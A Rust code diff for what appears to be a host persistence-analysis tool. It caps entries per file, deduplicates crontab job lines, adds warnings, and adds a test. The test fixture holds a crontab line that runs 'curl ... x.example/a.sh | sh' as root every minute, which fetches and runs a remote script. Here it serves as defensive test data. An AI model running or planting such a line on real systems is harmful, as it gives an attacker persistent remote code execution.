@@ -300,9 +300,17 @@ impl PersistenceEntry {
     }
 }
 
-/// Every entry of the captured regular files, in file order, capped at [`MAX_ENTRIES`].
-pub fn collect(model: &HostModel) -> Vec<PersistenceEntry> {
+/// Entries kept per file: a shaped file of 50,000 job lines costs the analysis no more than this many
+/// (issue 18 case 7); the lines past it are named in a warning.
+pub const MAX_FILE_ENTRIES: usize = 5_000;
+
+/// Every entry of the captured regular files, in file order, at most [`MAX_FILE_ENTRIES`] per file and
+/// [`MAX_ENTRIES`] in all. In a crontab, a job line identical to an earlier one is examined once (it runs
+/// the same thing; the remediation removes every copy); scripts keep every line (their structure
+/// matters). What was left out is said in the warnings.
+pub fn collect(model: &HostModel) -> (Vec<PersistenceEntry>, Vec<String>) {
     let mut out = Vec::new();
+    let mut warnings = Vec::new();
     for (i, f) in model.files.iter().enumerate() {
         if f.kind != FileKind::Regular {
             continue;
@@ -313,14 +321,36 @@ pub fn collect(model: &HostModel) -> Vec<PersistenceEntry> {
         let Some(content) = model.content(f) else {
             continue;
         };
+        let dedupe = matches!(loc.format, Format::Crontab(_));
+        let (mut kept, mut repeated, mut over) = (0usize, 0usize, 0usize);
+        let mut seen: std::collections::HashSet<Vec<u8>> = std::collections::HashSet::new();
         for e in entries_of(i, f, content, loc) {
-            if out.len() >= MAX_ENTRIES {
-                return out;
+            if dedupe && seen.contains(&e.raw) {
+                repeated += 1;
+            } else if kept >= MAX_FILE_ENTRIES || out.len() >= MAX_ENTRIES {
+                over += 1;
+            } else {
+                if dedupe {
+                    seen.insert(e.raw.clone());
+                }
+                kept += 1;
+                out.push(e);
             }
-            out.push(e);
+        }
+        if over > 0 {
+            warnings.push(format!(
+                "{}: {over} persistence line(s) past the first {kept} were not examined (at most {MAX_FILE_ENTRIES} per file, {MAX_ENTRIES} in all)",
+                f.path.escaped()
+            ));
+        }
+        if repeated > 0 {
+            warnings.push(format!(
+                "{}: {repeated} job line(s) repeat an earlier line of the crontab and were examined once",
+                f.path.escaped()
+            ));
         }
     }
-    out
+    (out, warnings)
 }
 
 /// The entries of one file at a location.
@@ -613,6 +643,53 @@ mod tests {
         assert_eq!(modprobe_install_command(b"installx y z"), None);
         assert_eq!(modprobe_install_command(b"options x y=1"), None);
         assert_eq!(modprobe_install_command(b"install "), None);
+    }
+
+    #[test]
+    fn a_huge_crontab_costs_at_most_the_cap_and_repeats_once() {
+        let mut tab = Vec::new();
+        for i in 0..(MAX_FILE_ENTRIES + 100) {
+            tab.extend_from_slice(
+                format!("{} * * * * root /usr/local/bin/job{i}\n", i % 60).as_bytes(),
+            );
+            tab.extend_from_slice(b"* * * * * root curl -s http://x.example/a.sh | sh\n");
+        }
+        let script = b"#!/bin/sh\nfi\nfi\n/tmp/x &\n".to_vec();
+        let model = fixture::model(
+            vec![
+                fixture::file(b"/etc/cron.d/huge", Some(&tab)),
+                fixture::file(b"/etc/rc.local", Some(&script)),
+            ],
+            vec![],
+        );
+        let huge = model
+            .persistence
+            .iter()
+            .filter(|e| e.path.as_bytes() == b"/etc/cron.d/huge")
+            .count();
+        assert_eq!(huge, MAX_FILE_ENTRIES);
+        let repeated = model
+            .persistence
+            .iter()
+            .filter(|e| e.raw.starts_with(b"* * * * * root curl"))
+            .count();
+        assert_eq!(repeated, 1);
+        // Scripts keep their repeated lines (their structure matters).
+        let rc = model
+            .persistence
+            .iter()
+            .filter(|e| e.path.as_bytes() == b"/etc/rc.local")
+            .count();
+        assert_eq!(rc, 3, "{:?}", model.persistence);
+        let w = model.warnings.join("\n");
+        assert!(
+            w.contains("/etc/cron.d/huge: 101 persistence line(s) past the first 5000"),
+            "{w}"
+        );
+        assert!(
+            w.contains("/etc/cron.d/huge: 5099 job line(s) repeat"),
+            "{w}"
+        );
     }
 
     #[test]
